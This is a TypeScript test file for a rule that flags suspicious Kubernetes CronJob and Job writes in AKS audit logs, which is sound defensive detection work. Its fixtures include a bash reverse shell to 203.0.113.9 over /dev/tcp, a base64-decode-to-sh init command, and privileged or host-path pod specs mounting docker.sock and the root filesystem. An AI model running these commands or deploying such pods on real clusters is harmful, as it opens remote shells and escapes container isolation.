import { describe, expect, it } from 'vitest';
import type { FindingRow } from '../../src/findings/finding-row.js';
import { aksRecord, auditEvent, cronJobBody, jobBody, podSpec, type WriteOptions } from '../helpers/audit.js';
import { bundledRuleSet, FIXED_CLOCK, processBatch } from '../helpers/detector.js';

const RULE = 'f4fc1f0e-ebc3-4f51-808e-2b12ba1883d8';

async function detect(events: Record<string, unknown>[], parsed = false): Promise<FindingRow[]> {
  const ruleSet = await bundledRuleSet();
  const { findings, report } = processBatch(
    [{ body: { records: events.map((e) => aksRecord(e, { parsed })) }, origin: { event: 0 } }],
    { ruleSet, clock: FIXED_CLOCK, detectorVersion: 'test' },
  );
  expect(report.unreadable).toBe(0);
  return findings.filter((f) => f.RuleId === RULE);
}

const matched = (finding: FindingRow | undefined) =>
  Object.keys(finding?.Indicators['matched'] ?? {})
    .filter((k) => k.startsWith('indicator_'))
    .sort();

async function indicatorsOf(options: WriteOptions): Promise<string[] | undefined> {
  const [finding] = await detect([auditEvent(options)]);
  return finding === undefined ? undefined : matched(finding);
}

describe('seed 001 rule: which writes fire, with which indicators', () => {
  it.each([
    [
      'a suspicious image',
      podSpec({ image: 'docker.io/library/alpine:3.20', command: ['sleep', '10'] }),
      ['indicator_image'],
    ],
    [
      'an image in upper case',
      podSpec({ image: 'REGISTRY.EXAMPLE/KALI-ROLLING:latest' }),
      ['indicator_image'],
    ],
    [
      'a reverse shell command in args',
      podSpec({
        image: 'contoso/app:1',
        command: ['/bin/sh', '-c'],
        args: ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      }),
      ['indicator_command'],
    ],
    [
      'a privileged container',
      podSpec({ image: 'contoso/app:1', securityContext: { privileged: true } }),
      ['indicator_privileged'],
    ],
    [
      'a hostPath volume',
      podSpec(
        { image: 'contoso/app:1', volumeMounts: [{ name: 'h', mountPath: '/data' }] },
        { volumes: [{ name: 'h', hostPath: { path: '/mnt/data' } }] },
      ),
      ['indicator_host_path'],
    ],
    [
      'the host network',
      podSpec({ image: 'contoso/app:1' }, { hostNetwork: true }),
      ['indicator_host_network'],
    ],
    [
      'a docker.sock mount',
      podSpec(
        { image: 'contoso/app:1', volumeMounts: [{ name: 's', mountPath: '/var/run/docker.sock' }] },
        { volumes: [{ name: 's', hostPath: { path: '/var/run/docker.sock' } }] },
      ),
      ['indicator_host_path', 'indicator_sensitive_mount'],
    ],
    [
      'an init container command',
      podSpec(
        { image: 'contoso/app:1' },
        {
          initContainers: [
            {
              name: 'init',
              image: 'contoso/init:1',
              command: ['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh'],
            },
          ],
        },
      ),
      ['indicator_command'],
    ],
    [
      'an ephemeral container image',
      podSpec(
        { image: 'contoso/app:1' },
        { ephemeralContainers: [{ name: 'dbg', image: 'nicolaka/netshoot-netcat:latest' }] },
      ),
      ['indicator_image'],
    ],
  ])('a CronJob create with %s', async (_name, spec, expected) => {
    expect(await indicatorsOf({ requestObject: cronJobBody(spec) })).toEqual(expected);
  });

  it('fires for Job create and update', async () => {
    const body = jobBody(podSpec({ image: 'busybox:1.36' }));
    expect(await indicatorsOf({ resource: 'jobs', requestObject: body })).toEqual(['indicator_image']);
    expect(await indicatorsOf({ resource: 'jobs', verb: 'update', code: 200, requestObject: body })).toEqual([
      'indicator_image',
    ]);
  });

  it('does not fire on writes without indicators, reads, deletes, pods, status writes or system principals', async () => {
    const benign = cronJobBody(
      podSpec({ image: 'contosoacr.azurecr.io/ops/report:2.1.0', args: ['--since', '24h'] }),
    );
    const evil = cronJobBody(podSpec({ image: 'alpine', securityContext: { privileged: true } }));
    expect(await indicatorsOf({ requestObject: benign })).toBeUndefined();
    for (const verb of ['get', 'list', 'watch', 'delete', 'deletecollection'])
      expect(await indicatorsOf({ verb, requestObject: evil, code: 200 })).toBeUndefined();
    expect(
      await indicatorsOf({
        resource: 'pods',
        requestObject: { kind: 'Pod', spec: podSpec({ image: 'alpine' }) },
      }),
    ).toBeUndefined();
    expect(
      await indicatorsOf({
        resource: 'deployments',
        requestObject: { kind: 'Deployment', spec: { template: { spec: podSpec({ image: 'alpine' }) } } },
      }),
    ).toBeUndefined();
    expect(
      await indicatorsOf({ verb: 'update', subresource: 'status', requestObject: evil, code: 200 }),
    ).toBeUndefined();
    for (const username of [
      'system:serviceaccount:kube-system:cronjob-controller',
      'system:node:aks-nodepool1-0',
      'system:component:kube-scheduler',
    ]) {
      expect(await indicatorsOf({ username, requestObject: evil })).toBeUndefined();
    }
    expect(
      await indicatorsOf({
        username: 'system:serviceaccount:argocd:argocd-application-controller',
        requestObject: evil,
      }),
    ).toEqual(['indicator_image', 'indicator_privileged']);
  });

  it('reads properties that a forwarder serialised to a string', async () => {
    const ruleSet = await bundledRuleSet();
    const record = aksRecord(auditEvent({ requestObject: cronJobBody(podSpec({ image: 'alpine' })) }));
    const stringified = { ...record, properties: JSON.stringify(record['properties']) };
    const { findings, report } = processBatch([{ body: { records: [stringified] }, origin: {} }], {
      ruleSet,
      clock: FIXED_CLOCK,
      detectorVersion: 'test',
    });
    expect(report.unreadable).toBe(0);
    expect(findings.map((f) => f.RuleId)).toEqual([RULE]);
    const raw = JSON.parse(String(findings[0]?.RawRecord)) as { properties: { log: string; pod: string } };
    expect(raw.properties.pod).toBe('kube-apiserver-7c9d8b6f5d-x2k4q');
    expect((JSON.parse(raw.properties.log) as { auditID: string }).auditID).toBe(
      '1f8e2d3c-4b5a-4697-8877-66a5b4c3d2e1',
    );
  });

  it('reads the already-parsed log of a forwarder', async () => {
    const findings = await detect(
      [auditEvent({ requestObject: cronJobBody(podSpec({ image: 'alpine' })) })],
      true,
    );
    expect(findings).toHaveLength(1);
  });

  it('reports denied and failed attempts, and says so', async () => {
    const body = cronJobBody(
      podSpec({
        image: 'busybox:stable',
        command: ['/bin/sh', '-c', 'date; echo Hello from Atomic Red Team'],
      }),
    );
    const [denied] = await detect([auditEvent({ code: 403, requestObject: body })]);
    const [removedApi] = await detect([
      auditEvent({ code: 404, requestObject: { ...body, apiVersion: 'batch/v1beta1' } }),
    ]);
    expect(denied?.ResultType).toBe('Denied (403)');
    expect(removedApi?.ResultType).toBe('Failed (404)');
  });

  it('fills the finding from the audit event', async () => {
    const [finding] = await detect([
      auditEvent({
        namespace: 'ops',
        name: 'log-rotate',
        impersonate: 'system:serviceaccount:ops:deployer',
        requestObject: cronJobBody(podSpec({ image: 'alpine' })),
      }),
    ]);
    expect(finding).toMatchObject({
      Source: 'KubeAudit',
      SourceRecordId: '1f8e2d3c-4b5a-4697-8877-66a5b4c3d2e1',
      Operation: 'create batch/cronjobs',
      ResultType: 'Success (201)',
      Namespace: 'ops',
      WorkloadKind: 'CronJob',
      WorkloadName: 'log-rotate',
      Caller: 'mallory@contoso.example as system:serviceaccount:ops:deployer',
      CallerIpAddress: '198.51.100.23',
      ClusterResourceId:
        '/subscriptions/3f2a9c10-5b7e-4d21-9a44-0c1d2e3f4a5b/resourcegroups/rg-pay/providers/microsoft.containerservice/managedclusters/aks-pay-01',
      ClusterKind: 'ManagedCluster',
      SubscriptionId: '3f2a9c10-5b7e-4d21-9a44-0c1d2e3f4a5b',
      TimeGenerated: '2025-03-04T09:15:27.431220Z',
      EventTime: '2025-03-04T09:15:27.431220Z',
      EventTimeSource: 'requestReceivedTimestamp',
      Techniques: ['T1053.007'],
    });
    expect(finding?.Indicators['requestBody']).toBe('present');
  });
});

describe('patch bodies', () => {
  const patched = (requestObject: unknown, responseObject?: unknown) =>
    indicatorsOf({
      verb: 'patch',
      code: 200,
      requestObject,
      ...(responseObject === undefined ? {} : { responseObject }),
    });

  it('reads a merge or strategic merge patch as a partial object', async () => {
    expect(
      await patched({
        spec: {
          jobTemplate: {
            spec: { template: { spec: { containers: [{ name: 'c', image: 'ubuntu:22.04' }] } } },
          },
        },
      }),
    ).toEqual(['indicator_image']);
    expect(
      await patched({
        spec: {
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  $setElementOrder: { containers: [{ name: 'c' }] },
                  containers: [{ name: 'c', securityContext: { privileged: true } }],
                },
              },
            },
          },
        },
      }),
    ).toEqual(['indicator_privileged']);
  });

  it('replays a JSON Patch', async () => {
    expect(
      await patched([
        { op: 'test', path: '/spec/schedule', value: '*/5 * * * *' },
        {
          op: 'replace',
          path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
          value: 'kalilinux/kali-rolling',
        },
        {
          op: 'add',
          path: '/spec/jobTemplate/spec/template/spec/volumes/-',
          value: { name: 'root', hostPath: { path: '/' } },
        },
        { op: 'remove', path: '/spec/suspend' },
      ]),
    ).toEqual(['indicator_host_path', 'indicator_image']);
  });

  it('reads a server-side apply body sent as YAML', async () => {
    const yaml =
      'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: evil\nspec:\n  schedule: "* * * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          hostNetwork: true\n          containers:\n          - name: c\n            image: contoso/app:1\n';
    expect(await patched(yaml)).toEqual(['indicator_host_network']);
  });

  it('reads the stored object and the last-applied manifest a patch carries', async () => {
    expect(
      await patched({ spec: { schedule: '* * * * *' } }, cronJobBody(podSpec({ image: 'perl:5.40' }))),
    ).toEqual(['indicator_image']);
    const manifest = JSON.stringify(
      cronJobBody(podSpec({ image: 'contoso/app:1', command: ['sh', '-c', 'mkfifo /tmp/p'] })),
    );
    expect(
      await patched({
        metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `${manifest}\n` } },
      }),
    ).toEqual(['indicator_command']);
  });

  it('does not fire on a patch that sets nothing suspicious', async () => {
    expect(await patched({ spec: { suspend: true } })).toBeUndefined();
  });
});

describe('missing or oversized bodies', () => {
  it('has no workload fields at Metadata level or for a skipped body; a skipped body is an indicator', async () => {
    expect(await indicatorsOf({ level: 'Metadata' })).toBeUndefined();
    // Dropped for size, the body may hide anything (see test/sources/evasions.test.ts, 6).
    expect(await indicatorsOf({ requestObject: 'skipped-too-big-size-object' })).toEqual([
      'indicator_body_dropped_for_size',
    ]);
  });

  it('survives 3000-deep nesting and 1 MB strings in a body', async () => {
    let deep: unknown = 'x';
    for (let i = 0; i < 3000; i++) deep = { nested: deep };
    const huge = 'A'.repeat(1024 * 1024);
    const body = cronJobBody(
      podSpec(
        { image: `alpine-${huge}`, command: ['sh', '-c', huge], env: [{ name: 'DEEP', value: deep }] },
        { deep },
      ),
    );
    const findings = await detect([auditEvent({ requestObject: body })]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.RawRecordTruncated).toBe(true);
  });
});
